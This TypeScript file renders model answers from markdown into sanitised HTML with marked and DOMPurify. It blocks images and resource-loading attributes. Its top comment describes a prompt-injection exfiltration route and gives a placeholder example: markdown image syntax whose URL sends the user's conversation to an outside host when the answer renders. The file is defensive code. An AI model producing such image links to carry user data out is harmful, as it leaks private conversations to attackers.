// Markdown → safe HTML. Answers are untrusted text: marked renders, DOMPurify
// strips anything active (scripts, event handlers, javascript: URLs). An
// image is never fetched: a model told by a prompt injection to write
// ![x](https://host/?q=what+the+user+said) would send the conversation to
// that host as the answer renders. It becomes a link to the image instead,
// which the user may open.

import DOMPurify from 'dompurify';
import { Marked } from 'marked';

const marked = new Marked({ gfm: true, breaks: false, async: false });

const KEPT_ATTRIBUTES = new Set(['href', 'title', 'alt', 'class', 'align', 'colspan', 'rowspan', 'start', 'reversed', 'lang', 'dir', 'open', 'datetime']);

let hooked = false;

function hook(): void {
  if (hooked) return;
  hooked = true;
  // The link is made before the image it replaces, where DOMPurify's walk
  // has passed, so it is built here from checked parts: an http(s) URL
  // and text.
  DOMPurify.addHook('uponSanitizeElement', (node, data) => {
    if (data.tagName !== 'img' || !(node instanceof Element) || !node.parentNode) return;
    const src = node.getAttribute('src') ?? '';
    const alt = node.getAttribute('alt') ?? '';
    const doc = node.ownerDocument;
    let url: URL | null = null;
    try {
      url = new URL(src);
    } catch {
      // not an absolute URL
    }
    const web = url && (url.protocol === 'http:' || url.protocol === 'https:');
    // An image inside a link ([![alt](img)](page)) is that link's text: a
    // link in a link would split it.
    const link = web && !node.closest('a');
    const el = doc.createElement(link ? 'a' : 'span');
    el.className = 'md-image';
    el.textContent = `image: ${alt || (web ? url!.host : 'not shown')}`;
    if (link) {
      el.setAttribute('href', url!.href);
      el.setAttribute('target', '_blank');
      el.setAttribute('rel', 'noopener noreferrer');
      el.setAttribute('title', `Not loaded: open ${url!.href}`);
    }
    node.parentNode.insertBefore(el, node);
  });
  // Only the attributes markdown and plain formatting need: the HTML
  // profile keeps some a browser loads from (a table's `background`,
  // `poster`, `srcset`), which a prompt-injected answer could point at
  // any host, and nothing else blocks that in the desktop window.
  DOMPurify.addHook('uponSanitizeAttribute', (_node, data) => {
    if (!KEPT_ATTRIBUTES.has(data.attrName)) data.keepAttr = false;
  });
  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
    if (node instanceof HTMLAnchorElement && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    }
  });
}

/** renderMarkdown returns sanitized HTML for src. */
export function renderMarkdown(src: string): string {
  hook();
  const html = marked.parse(src) as string;
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'img', 'picture', 'video', 'audio', 'source', 'track'],
  });
}
